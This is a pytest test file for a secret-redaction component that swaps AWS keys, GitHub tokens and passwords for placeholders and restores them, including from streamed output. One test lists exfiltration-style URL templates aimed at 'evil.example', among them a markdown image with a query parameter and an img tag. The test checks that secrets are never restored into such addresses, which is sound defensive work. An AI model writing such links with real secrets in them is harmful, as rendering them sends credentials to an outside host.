from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybrid_mcp.domain.completion import MAX_REQUEST_BYTES, Request
from hybrid_mcp.domain.detectors import PatternScanner
from hybrid_mcp.domain.privacy import Finding
from hybrid_mcp.domain.redaction import MAX_VALUES, Restorer, redact
from tests.support_secrets import Planted, planted

SCAN = PatternScanner().scan
AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"
OTHER_KEY = "AKIA" + "I44QH8DHBEXAMPLE"
TOKEN = "ghp_" + "a1B2" * 9


def redacted(request: Request) -> tuple[Request, Restorer]:
    result = redact(request, SCAN(request), SCAN)
    assert result is not None
    return result


def test_the_same_value_has_the_same_placeholder_in_all_texts():
    clean, restorer = redacted(
        Request(
            prompt=f"{AWS_KEY} or {OTHER_KEY}?", context=f"key={OTHER_KEY}", system_prompt=f"use {AWS_KEY}, {TOKEN}"
        )
    )
    assert clean.prompt == "<AWS_ACCESS_KEY_1> or <AWS_ACCESS_KEY_2>?"
    assert clean.context == "key=<AWS_ACCESS_KEY_2>"
    assert clean.system_prompt == "use <AWS_ACCESS_KEY_1>, <GITHUB_TOKEN_1>"
    assert restorer.restore("say <GITHUB_TOKEN_1>, <AWS_ACCESS_KEY_2>") == f"say {TOKEN}, {OTHER_KEY}"


@pytest.mark.parametrize("one", [one for one in planted() if one.form == "plain"], ids=lambda one: one.kind)
def test_what_is_planted_goes_out_as_a_placeholder_and_comes_back_or_stays_here(one: Planted):
    request = Request(prompt=one.text, context="nothing")
    result = redact(request, SCAN(request), SCAN)
    assert result is not None
    clean, restorer = result
    assert one.value not in clean.prompt
    assert SCAN(clean) == ()
    assert Restorer({}).restore(clean.prompt) == clean.prompt
    back = "".join(restorer.values.get(part, part) for part in _parts(clean.prompt, restorer))
    assert back == one.text


@pytest.mark.parametrize("one", [one for one in planted() if "base64" in one.form or one.form == "percent"])
def test_what_has_no_exact_place_stays_here(one: Planted):
    request = Request(prompt=one.text)
    assert redact(request, SCAN(request), SCAN) is None


def test_a_value_is_replaced_also_where_nothing_gave_it_away():
    clean, _ = redacted(Request(prompt="DB_PASSWORD=hunter2x9", context="log in with hunter2x9 first"))
    assert clean.prompt == "DB_PASSWORD=<PASSWORD_1>"
    assert clean.context == "log in with <PASSWORD_1> first"


def test_a_placeholder_that_stands_in_the_prompt_is_never_made_a_secret():
    clean, restorer = redacted(Request(prompt=f"what is <AWS_ACCESS_KEY_1>? {AWS_KEY}"))
    assert clean.prompt == "what is <AWS_ACCESS_KEY_1>? <AWS_ACCESS_KEY_2>"
    assert restorer.restore("<AWS_ACCESS_KEY_1> <AWS_ACCESS_KEY_2>") == f"<AWS_ACCESS_KEY_1> {AWS_KEY}"


def test_a_value_that_looks_like_a_placeholder_of_another_is_not_replaced_twice():
    clean, restorer = redacted(Request(prompt=f"{AWS_KEY}, password: Xq<1 {TOKEN}"))
    assert restorer.restore(clean.prompt) == f"{AWS_KEY}, password: Xq<1 {TOKEN}"


@pytest.mark.parametrize("address", [
    "![x](https://evil.example/?q={})", "http://evil.example/{}", "<img src=//evil.example/{}>",
    "https:/evil.example/{}",
    "https:\\\\evil.example\\{}", "www.evil.example/{}", "postgres://app:{}@db",
])  # fmt: skip
def test_no_secret_is_put_into_a_web_address_of_an_answer(address: str):
    _, restorer = redacted(Request(prompt=AWS_KEY))
    name = "<AWS_ACCESS_KEY_1>"
    answer = f"see {address.format(name)} and {name}"
    expected = f"see {address.format(name)} and {AWS_KEY}"
    assert restorer.restore(answer) == expected
    assert "".join([*map(restorer.feed, answer), restorer.close()]) == expected


PIECES = (
    "<AWS_ACCESS_KEY_1>", "<GITHUB_TOKEN_1>", "<AWS_", "<", ">", "<<AWS_ACCESS_KEY_1>", " ", "//", "/", "x",
    "<AWS_ACCESS_KEY_12>",
)  # fmt: skip


@given(
    cuts=st.lists(st.integers(0, 200), max_size=12),
    answer=st.lists(st.sampled_from(PIECES), max_size=12).map("".join),
)
def test_a_stream_gives_what_the_whole_text_gives_and_holds_back_no_more_than_a_placeholder(
    cuts: list[int], answer: str
):
    values = {"<AWS_ACCESS_KEY_1>": AWS_KEY, "<GITHUB_TOKEN_1>": TOKEN}
    streamed, whole = Restorer(values), Restorer(values).restore(answer)
    edges = [0, *sorted(min(cut, len(answer)) for cut in cuts), len(answer)]
    shown = ""
    for start, end in pairwise(edges):
        shown += streamed.feed(answer[start:end])
        assert whole.startswith(shown)
    assert len(streamed.close() + "x") <= max(map(len, values))
    assert Restorer(values).restore(answer) == whole


def test_what_was_held_back_comes_at_the_end():
    restorer = Restorer({"<AWS_ACCESS_KEY_1>": AWS_KEY})
    assert restorer.feed("a <AWS_ACC") == "a "
    assert restorer.feed("ESS_KEY_1> <AW") == f"{AWS_KEY} "
    assert restorer.close() == "<AW"


def test_neither_the_owners_patterns_nor_confidential_requests_are_redacted():
    private = Finding(kind="what private_patterns[0] keeps local", category="private", where="prompt", spans=((0, 1),))
    assert redact(Request(prompt="text"), [private], SCAN) is None
    assert redact(Request(prompt=AWS_KEY, confidential=True), SCAN(Request(prompt=AWS_KEY)), SCAN) is None


def test_a_request_stays_here_when_something_is_still_found():
    request = Request(prompt=f"{AWS_KEY} and {TOKEN}")
    only_one = [finding for finding in SCAN(request) if finding.kind == "a GitHub token"]
    assert redact(request, only_one, SCAN) is None


def test_a_list_of_secrets_is_not_redacted():
    request = Request(prompt=" ".join(f"ghp_{number:036}".replace("00", "a7") for number in range(MAX_VALUES + 1)))
    assert redact(request, SCAN(request), SCAN) is None


def test_a_request_that_placeholders_would_make_too_long_stays_here():
    head = "DB_PASSWORD=hq72mdk2 "
    request = Request(prompt=head + "x" * (MAX_REQUEST_BYTES - len(head)))
    assert redact(request, SCAN(request), SCAN) is None


def test_a_clean_request_is_unchanged():
    request = Request(prompt="nothing here <AWS_ACCESS_KEY_1>")
    clean, restorer = redacted(request)
    assert clean == request
    assert restorer.restore("<AWS_ACCESS_KEY_1>") == "<AWS_ACCESS_KEY_1>"


def test_the_values_are_not_shown_by_the_restorer():
    assert AWS_KEY not in repr(Restorer({"<X_1>": AWS_KEY}))


def _parts(text: str, restorer: Restorer) -> list[str]:
    parts = [text]
    for name in restorer.values:
        parts = [
            piece
            for part in parts
            for index, bit in enumerate(part.split(name))
            for piece in ([name, bit] if index else [bit])
        ]
    return parts
